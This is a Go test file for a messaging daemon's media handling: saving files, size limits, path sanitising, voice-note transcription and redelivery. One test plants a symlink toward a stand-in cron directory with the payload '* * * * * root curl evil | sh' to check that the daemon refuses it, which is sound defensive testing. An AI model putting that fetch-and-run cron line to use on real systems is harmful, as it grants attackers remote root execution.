package router

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nanoclawd/nanoclawd/internal/channel"
	"github.com/nanoclawd/nanoclawd/internal/config"
	"github.com/nanoclawd/nanoclawd/internal/groups"
	"github.com/nanoclawd/nanoclawd/internal/security"
	"github.com/nanoclawd/nanoclawd/internal/testkit/mock"
)

func file(kind, mime, name string, size int64, secs int, data []byte, err error) *channel.Media {
	return &channel.Media{Kind: kind, MimeType: mime, Name: name, Size: size, Seconds: secs,
		Fetch: func(context.Context) ([]byte, error) { return data, err }}
}

// Each kind of file is saved byte for byte as media/<id><ext> and named
// in its marker with kind, name, length, size and path; what cannot be
// saved is said in the marker, never dropped.
func TestSaveMedia(t *testing.T) {
	e := newEnv(t)
	e.cfg.Media.MaxBytes = 6 << 20
	g := groups.Group{Folder: "family"}
	jpeg := []byte("\xff\xd8\xff\xe0 not really a jpeg")
	pdf := bytes.Repeat([]byte("%PDF"), 320<<10) // 1.25 MB
	big := make([]byte, MaxImageBytes+1)
	oggVoice := append(oggPage(0, append([]byte("OpusHead\x01\x01"), 0, 0, 0x80, 0xbb, 0, 0, 0, 0, 0)), oggPage(48000*42, []byte("audio"))...)
	for _, tc := range []struct {
		name, id string
		media    *channel.Media
		want     string
		data     []byte
	}{
		{"image", "3EB0AB", file("image", "image/jpeg", "", 20, 0, jpeg, nil), "[image 22 bytes, media/3EB0AB.jpg]", jpeg},
		{"document", "D1", file("document", "application/pdf", "../../Q3 report.pdf", 0, 0, pdf, nil), "[document Q3 report.pdf, 1.2 MB, media/D1.pdf]", pdf},
		{"voice", "V1", file("voice note", "audio/ogg; codecs=opus", "", 5, 42, []byte("OggS"), nil), "[voice note 0:42, media/V1.ogg]", []byte("OggS")},
		{"voice, length from the stream", "V2", file("voice note", "audio/ogg; codecs=opus", "", 0, 0, oggVoice, nil), "[voice note 0:42, media/V2.ogg]", oggVoice},
		{"video", "M1", file("video", "video/mp4", "", 0, 75, []byte("mp4"), nil), "[video 1:15, 3 bytes, media/M1.mp4]", []byte("mp4")},
		{"sticker", "S1", file("sticker", "image/webp", "", 0, 0, []byte("RIFF"), nil), "[sticker 4 bytes, media/S1.webp]", []byte("RIFF")},
		{"odd id and type", "../x", file("document", "application/x-odd", "notes.MD", 0, 0, []byte("#"), nil), "[document notes.MD, 1 bytes, media/___x.md]", []byte("#")},
		{"heic", "H1", file("image", "image/heic", "", 0, 0, []byte("heic"), nil), "[image 4 bytes, media/H1.heic, a format the model cannot view]", []byte("heic")},
		{"huge image", "B1", file("image", "image/png", "", 0, 0, big, nil), "[image 5.0 MB, media/B1.png, too large for the model to view (over 5.0 MB)]", big},
		{"announced too big", "T1", file("video", "video/mp4", "", 7<<20, 0, nil, errors.New("fetched")), "[video 7.0 MB: not downloaded, larger than the 6.0 MB limit (media.maxBytes)]", nil},
		{"too big after all", "T2", file("document", "application/pdf", "x.pdf", 10, 0, make([]byte, 6<<20+1), nil), "[document x.pdf, 6.0 MB: not downloaded, larger than the 6.0 MB limit (media.maxBytes)]", nil},
		{"download failed", "F1", file("voice note", "audio/ogg", "", 10, 3, nil, errors.New("media expired (410)")), "[voice note: could not be downloaded (media expired (410))]", nil},
	} {
		s := e.r.saveMedia(context.Background(), g, channel.Message{ID: tc.id, Media: tc.media})
		if got := s.text(""); got != tc.want {
			t.Errorf("%s: marker %q, want %q", tc.name, got, tc.want)
		}
		if tc.data == nil {
			if s.rel != "" {
				t.Errorf("%s: saved as %s", tc.name, s.rel)
			}
			continue
		}
		got, err := os.ReadFile(filepath.Join(e.cfg.GroupsDir, "family", s.rel))
		if err != nil || !bytes.Equal(got, tc.data) {
			t.Errorf("%s: the saved copy differs (%d bytes, %v)", tc.name, len(got), err)
		}
	}
	if _, err := os.Stat(filepath.Join(e.cfg.GroupsDir, "x.md")); err == nil {
		t.Error("a message id escaped the media folder")
	}
	entries, _ := os.ReadDir(filepath.Join(e.cfg.GroupsDir, "family", "media"))
	for _, en := range entries {
		if strings.HasSuffix(en.Name(), ".tmp") {
			t.Errorf("a temporary file was left: %s", en.Name())
		}
	}
}

// The group can write its folder, so it can put a link where media/
// belongs, aimed at a directory the daemon may write (/etc/cron.d, say).
// The daemon removes the link instead of following it, saves the file in
// a real media/, and reports a filesystem violation; a link planted under
// the file's own name is replaced, and what it pointed at is untouched.
func TestMediaLinkPlantedByTheGroup(t *testing.T) {
	e := newEnv(t)
	e.cfg.Media.MaxBytes = 1 << 20
	var reported []security.Violation
	e.r.Reporter = &mock.Reporter{ReportFn: func(_ context.Context, v security.Violation) error { reported = append(reported, v); return nil }}
	folder := filepath.Join(e.cfg.GroupsDir, "family")
	cron := t.TempDir() // stands for /etc/cron.d
	if err := os.MkdirAll(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(cron, filepath.Join(folder, "media")); err != nil {
		t.Fatal(err)
	}
	payload := []byte("* * * * * root curl evil | sh\n")
	s := e.r.saveMedia(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job",
		Media: file("document", "text/plain", "job", 0, 0, payload, nil)})
	if s.rel != "media/job.txt" {
		t.Fatalf("not saved: %s", s.text(""))
	}
	if entries, _ := os.ReadDir(cron); len(entries) != 0 {
		t.Errorf("the daemon wrote through the link: %v", entries)
	}
	fi, err := os.Lstat(filepath.Join(folder, "media"))
	if err != nil || !fi.IsDir() {
		t.Fatalf("media/ is %v (%v), want a real directory", fi, err)
	}
	if got, _ := os.ReadFile(filepath.Join(folder, "media", "job.txt")); !bytes.Equal(got, payload) {
		t.Errorf("saved %q", got)
	}
	if len(reported) != 1 || reported[0].Kind != security.KindFilesystem || reported[0].Group != "family" ||
		reported[0].Target != filepath.Join(folder, "media") || !strings.Contains(reported[0].Detail, cron) {
		t.Errorf("reported %+v; want one filesystem violation naming the link and its target", reported)
	}

	// A link under the file's name, to a file outside.
	victim := filepath.Join(t.TempDir(), "crontab")
	os.WriteFile(victim, []byte("keep"), 0o644)
	if err := os.Symlink(victim, filepath.Join(folder, "media", "job2.txt")); err != nil {
		t.Fatal(err)
	}
	e.r.saveMedia(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job2",
		Media: file("document", "text/plain", "", 0, 0, payload, nil)})
	if got, _ := os.ReadFile(victim); string(got) != "keep" {
		t.Errorf("the file a link pointed at was overwritten: %q", got)
	}
	if fi, err := os.Lstat(filepath.Join(folder, "media", "job2.txt")); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("media/job2.txt is %v (%v), want a regular file", fi, err)
	}

	// A file where media/ belongs is treated as the link was: removed,
	// reported, and a real media/ holds the received file.
	os.RemoveAll(filepath.Join(folder, "media"))
	os.WriteFile(filepath.Join(folder, "media"), []byte("x"), 0o644)
	s = e.r.saveMedia(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job3",
		Media: file("document", "text/plain", "", 0, 0, payload, nil)})
	if s.rel != "media/job3.txt" || len(reported) != 2 || reported[1].Target != filepath.Join(folder, "media") {
		t.Errorf("a file as media/: marker %q, reports %+v", s.text(""), reported)
	}
}

// Through OnMessage: a voice note is stored at once, saying it is not
// transcribed yet; the stand-in transcriber's text then replaces that,
// and only then may it start a run. A reaction is stored as context and
// calls no one; a quote named by id alone is filled in from the chat.
func TestVoiceNoteReactionAndQuote(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	release := filepath.Join(dir, "go")
	tr := filepath.Join(dir, "tr")
	// Waits for the test to say go: the note must be stored before its text.
	os.WriteFile(tr, []byte("#!/bin/sh\nwhile [ ! -e "+release+" ]; do sleep 0.01; done\nprintf 'heard %s bytes' $(wc -c < \"$1\")\n"), 0o755)
	e.cfg.Media = config.Media{MaxBytes: 1 << 20, Transcribe: config.Transcribe{Command: []string{tr, "{file}"}, Timeout: config.Duration(time.Minute)}}
	enqueued := make(chan string, 10)
	e.r.Queue = &mock.Queue{EnqueueMessagesFn: func(f string) { enqueued <- f }, RunningFn: func(string) bool { return false }}
	ctx := context.Background()

	note := channel.Message{ChatJID: mainJID, ID: "V1", SenderJID: "owner", Time: time.Now(),
		Media: file("voice note", "audio/ogg; codecs=opus", "", 6, 7, []byte("OggS!!"), nil)}
	if err := e.r.OnMessage(ctx, note); err != nil {
		t.Fatal(err)
	}
	msgs, _ := e.msgs.Unanswered(ctx, mainJID)
	if len(msgs) != 1 || msgs[0].Media != "[voice note 0:07, media/V1.ogg] (not transcribed: the daemon stopped before the transcription finished)" {
		t.Fatalf("stored at first: %+v", msgs)
	}
	waitCtx, cancel := context.WithCancel(ctx)
	cancel()
	if err := e.r.transcripts.wait(waitCtx, mainJID, nil); err == nil {
		t.Error("a run would not wait for the transcription")
	}
	select {
	case f := <-enqueued:
		t.Fatalf("a run of %s was queued before the transcript", f)
	default:
	}
	os.WriteFile(release, nil, 0o644)
	if f := <-enqueued; f != "main" {
		t.Errorf("queued a run of %s", f)
	}
	if err := e.r.transcripts.wait(ctx, mainJID, nil); err != nil {
		t.Fatal(err)
	}
	msgs, _ = e.msgs.Unanswered(ctx, mainJID)
	if msgs[0].Media != "[voice note 0:07, media/V1.ogg] transcript: heard 6 bytes" {
		t.Errorf("after transcription: %q", msgs[0].Media)
	}

	// Without a transcriber the marker says so at once.
	e.cfg.Media.Transcribe = config.Transcribe{}
	note.ID = "V2"
	if err := e.r.OnMessage(ctx, note); err != nil {
		t.Fatal(err)
	}
	<-enqueued
	msgs, _ = e.msgs.Unanswered(ctx, mainJID)
	if !strings.HasSuffix(msgs[1].Media, "(not transcribed: "+"no transcriber is set up (media.transcribe.command or media.transcribe.url in the config))") {
		t.Errorf("without a transcriber: %q", msgs[1].Media)
	}

	if err := e.r.OnMessage(ctx, channel.Message{ChatJID: mainJID, ID: "R1", SenderJID: "bob", Text: "👍", ReactTo: "V1", Time: time.Now()}); err != nil {
		t.Fatal(err)
	}
	if err := e.r.OnMessage(ctx, channel.Message{ChatJID: mainJID, ID: "Q1", SenderJID: "bob", Text: "ok", QuotedID: "V2", Time: time.Now()}); err != nil {
		t.Fatal(err)
	}
	if f := <-enqueued; f != "main" || len(enqueued) != 0 {
		t.Errorf("queued %s and %d more; want one run, for the reply alone", f, len(enqueued))
	}
	msgs, _ = e.msgs.Unanswered(ctx, mainJID)
	prompt, _ := e.r.promptOf(msgs)
	for _, want := range []string{`<reaction id="R1" sender="bob"`, `to="V1">👍</reaction>`, `<message id="Q1" sender="bob"`, `<quote id="V2" sender="owner">[voice note 0:07, media/V2.ogg] (not transcribed`} {
		if !strings.Contains(prompt, want) {
			t.Errorf("prompt lacks %s:\n%s", want, prompt)
		}
	}
	if anyCalls(groups.Group{JID: famJID}, msgs[2:3]) {
		t.Error("a reaction counts as calling the assistant in a group without a trigger")
	}
}

// A message delivered again under the same id (WhatsApp redelivers; a
// sender's app picks the id) does not replace the file saved the first
// time, nor is it downloaded again.
func TestRedeliveryKeepsTheFirstFile(t *testing.T) {
	e := newEnv(t)
	e.cfg.Media.MaxBytes = 1 << 20
	e.r.Queue = &mock.Queue{EnqueueMessagesFn: func(string) {}, RunningFn: func(string) bool { return false }}
	ctx := context.Background()
	fetches := 0
	send := func(data string) {
		t.Helper()
		m := channel.Message{ChatJID: mainJID, ID: "D1", SenderJID: "owner", Time: time.Now(), Media: &channel.Media{Kind: "document",
			MimeType: "application/pdf", Fetch: func(context.Context) ([]byte, error) { fetches++; return []byte(data), nil }}}
		if err := e.r.OnMessage(ctx, m); err != nil {
			t.Fatal(err)
		}
	}
	send("first")
	send("second")
	got, _ := os.ReadFile(filepath.Join(e.cfg.GroupsDir, "main", "media", "D1.pdf"))
	if string(got) != "first" || fetches != 1 {
		t.Errorf("media/D1.pdf holds %q after %d downloads; want the first copy, downloaded once", got, fetches)
	}
}

// One chat's voice notes are transcribed one at a time; another chat's
// go on beside them.
func TestTranscriptionsTakeTurnsPerChat(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	// Family's transcriber runs confined, as the runs' user: it must reach
	// its program, and it cannot write the log (its start shows as a
	// process instead).
	os.Chmod(filepath.Dir(dir), 0o711)
	os.Chmod(dir, 0o755)
	log := filepath.Join(dir, "log")
	tr := filepath.Join(dir, "tr")
	// Each note's transcription waits for its own go-file.
	os.WriteFile(tr, []byte("#!/bin/sh\nn=$(basename $1 .ogg)\necho $n >> "+log+" 2>/dev/null\nwhile [ ! -e "+dir+"/go-$n ]; do sleep 0.01; done\necho words\n"), 0o755)
	release := func(id string) { os.WriteFile(filepath.Join(dir, "go-"+id), nil, 0o644) }
	e.cfg.Media = config.Media{MaxBytes: 1 << 20, Transcribe: config.Transcribe{Command: []string{tr, "{file}"}, Timeout: config.Duration(time.Minute)}}
	e.r.Queue = &mock.Queue{EnqueueMessagesFn: func(string) {}, RunningFn: func(string) bool { return false }}
	ctx := context.Background()
	for _, n := range []struct{ chat, id string }{{mainJID, "A1"}, {mainJID, "A2"}, {famJID, "B1"}} {
		if err := e.r.OnMessage(ctx, channel.Message{ChatJID: n.chat, ID: n.id, SenderJID: alice, Time: time.Now(),
			Media: file("voice note", "audio/ogg", "", 4, 1, []byte("OggS"), nil)}); err != nil {
			t.Fatal(err)
		}
	}
	started := func() string {
		b, _ := os.ReadFile(log)
		cmds, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, c := range cmds {
			if cl, _ := os.ReadFile(c); strings.Contains(string(cl), "B1.ogg") {
				return string(b) + "B1 (running)\n"
			}
		}
		return string(b)
	}
	waitStarted := func(ok func(string) bool) {
		t.Helper()
		for deadline := time.Now().Add(30 * time.Second); !ok(started()); time.Sleep(5 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("transcriptions started: %q", started())
			}
		}
	}
	// Family's note is done while main's first is still going.
	waitStarted(func(s string) bool { return strings.Contains(s, "B1") && strings.Contains(s, "A") })
	release("B1")
	if err := e.r.transcripts.wait(ctx, famJID, nil); err != nil {
		t.Fatal(err)
	}
	first, second := "A1", "A2"
	if !strings.Contains(started(), "A1") {
		first, second = second, first
	}
	if strings.Contains(started(), second) {
		t.Fatalf("both of main's notes ran at once: %q", started())
	}
	release(first)
	waitStarted(func(s string) bool { return strings.Contains(s, second) })
	release(second)
	if err := e.r.transcripts.wait(ctx, mainJID, nil); err != nil {
		t.Fatal(err)
	}
}
